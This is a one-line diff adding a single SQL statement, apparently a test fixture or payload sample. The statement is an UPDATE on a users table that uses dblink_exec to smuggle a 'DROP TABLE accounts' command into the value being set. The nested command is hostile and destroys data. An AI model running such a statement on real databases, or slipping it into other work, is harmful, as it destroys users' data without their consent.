@@ -1,0 +1,1 @@
+UPDATE users SET a = dblink_exec('dbname=x', 'DROP TABLE accounts') WHERE id = 1;
